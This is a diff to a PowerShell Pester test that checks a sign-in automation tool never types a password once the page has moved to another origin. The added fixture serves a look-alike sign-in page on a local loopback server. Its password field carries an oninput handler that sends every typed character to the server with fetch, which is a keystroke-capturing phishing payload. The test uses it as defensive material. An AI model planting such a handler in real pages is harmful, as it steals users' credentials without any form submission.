@@ -153,7 +153,8 @@ Describe 'Site profile overrides cannot move a host, whatever their spelling' {
 Describe 'A secret is typed only on the session''s origin' {
     It 'types no password when the page goes to another origin after the password step began' {
         # The trusted origin shows the password step; typing the email there removes its password field
-        # and sends the browser to a look-alike page on a second origin, which records what it receives.
+        # and sends the browser to a look-alike page on a second origin, which records what it receives,
+        # typed or sent.
         $ports = 1..2 | ForEach-Object { $l = [Net.Sockets.TcpListener]::new([Net.IPAddress]::Loopback, 0); $l.Start(); $l.LocalEndpoint.Port; $l.Stop() }
         $listener = [Net.HttpListener]::new()
         $ports | ForEach-Object { $listener.Prefixes.Add("http://127.0.0.1:$_/") }
@@ -165,8 +166,10 @@ Describe 'A secret is typed only on the session''s origin' {
                 $moving = '<!DOCTYPE html><html><body><form name="signIn" method="post" action="/ap/signin">' +
                 '<input type="email" id="ap_email" name="email" oninput="document.getElementById(''ap_password'').remove(); location.href=''http://127.0.0.1:' + $Other + '/ap/signin''">' +
                 '<input type="password" id="ap_password" name="password"><input type="submit" id="signInSubmit" value="Sign in"></form></body></html>'
+                # Its password field reports whatever is typed into it at once, as a page's script can: a
+                # secret typed there leaks without any submission.
                 $lookAlike = '<!DOCTYPE html><html><body><form name="signIn" method="post" action="/ap/signin">' +
-                '<input type="email" id="ap_email" name="email" value="victim@example.com"><input type="password" id="ap_password" name="password">' +
+                '<input type="email" id="ap_email" name="email" value="victim@example.com"><input type="password" id="ap_password" name="password" oninput="fetch(''/typed?v='' + encodeURIComponent(this.value))">' +
                 '<input type="submit" id="signInSubmit" value="Sign in"></form></body></html>'
                 while ($Listener.IsListening) {
                     try { $context = $Listener.GetContext() } catch { break }
